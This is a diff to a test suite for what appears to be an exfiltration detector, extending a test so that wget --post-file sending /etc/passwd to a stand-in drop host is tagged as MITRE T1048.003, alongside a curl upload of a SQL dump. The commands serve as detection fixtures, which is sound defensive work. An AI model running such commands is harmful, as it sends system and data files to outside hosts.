@@ -58,10 +58,16 @@ describe('exfiltration by command', () => {
     expect(scp('u@files.example.test:/srv/a.tgz', '.').has('network.exfil-https')).toBe(false);
   });
 
-  it('curl --data @file to plain http is T1048.003', () => {
+  it('curl --data @file and wget --post-file to plain http are T1048.003', () => {
     expect(curl('--data', '@dump.sql', 'http://drop.example.test/up').ids().get('network.exfil-http')).toEqual([
       'T1048.003',
     ]);
+    const wget = new Trace().run(701, '/usr/bin/wget', [
+      'wget',
+      '--post-file=/etc/passwd',
+      'http://drop.example.test/up',
+    ]);
+    expect(wget.ids().get('network.exfil-http')).toEqual(['T1048.003']);
   });
 
   it.each([
